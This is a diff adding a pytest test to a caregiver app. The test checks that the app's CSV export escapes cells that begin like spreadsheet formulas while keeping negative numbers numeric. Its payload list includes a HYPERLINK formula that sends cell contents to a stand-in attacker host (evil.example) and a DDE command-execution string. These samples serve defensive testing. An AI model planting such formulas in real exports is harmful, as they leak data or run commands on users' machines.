@@ -4,12 +4,13 @@ import csv
 import io
 import urllib.parse
 import urllib.request
+from datetime import datetime
 
 import pytest
 from werkzeug.http import parse_options_header
 
 from caregiver.extensions import db
-from caregiver.models import Entry, Patient
+from caregiver.models import CustomSymptom, Entry, Patient
 
 from .conftest import PASSWORD, make_patient, make_user, sign_in
 from .servers import Server, signed_in_opener
@@ -70,3 +71,39 @@ def test_every_export_downloads_under_gunicorn_in_every_script(app, database_url
                                      export.removeprefix("export."))
     finally:
         server.stop()
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
+            "=1+1", "-cmd|' /C calc'!A0"]
+
+
+def test_csv_cells_that_start_like_a_formula_are_text_and_numbers_stay_numbers(app, client):
+    owner = make_user(app)
+    patient_id = make_patient(app, owner)
+    with app.app_context():
+        own = CustomSymptom(patient_id=patient_id, name="=2+5", group="general")
+        db.session.add(own)
+        db.session.flush()
+        db.session.add(Entry(patient_id=patient_id, kind="symptom", custom_symptom_id=own.id, severity=3, tz="UTC",
+                             occurred_at=datetime(2026, 1, 4, 10)))
+        for minute, formula in enumerate(FORMULAS):
+            db.session.add(Entry(patient_id=patient_id, kind="question", note=formula, tz="UTC",
+                                 occurred_at=datetime(2026, 1, 5, 10, minute)))
+        db.session.add(Entry(patient_id=patient_id, kind="medication", name="=cmd", dose="-1 tablet", tz="UTC",
+                             occurred_at=datetime(2026, 1, 6, 12)))
+        db.session.add(Entry(patient_id=patient_id, kind="weight", value=-2.5, note="-2.5", tz="UTC",
+                             occurred_at=datetime(2026, 1, 7, 9)))
+        db.session.commit()
+    sign_in(client)
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/patients/{patient_id}/export.csv").get_data(as_text=True))))
+    notes = [row["note"] for row in rows if row["kind"] == "question"]
+    assert notes == ["'" + formula for formula in FORMULAS]  # shown as written, run never
+    assert next(row for row in rows if row["kind"] == "symptom")["symptom"] == "'=2+5"
+    medicine = next(row for row in rows if row["kind"] == "medication")
+    assert medicine["name"] == "'=cmd" and medicine["dose"] == "'-1 tablet"
+    weight = next(row for row in rows if row["kind"] == "weight")
+    assert weight["value"] == "-2.5" and float(weight["value"]) == -2.5 and weight["note"] == "-2.5"
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and (
+                not cell.startswith("-") or float(cell) < 0), (column, cell)
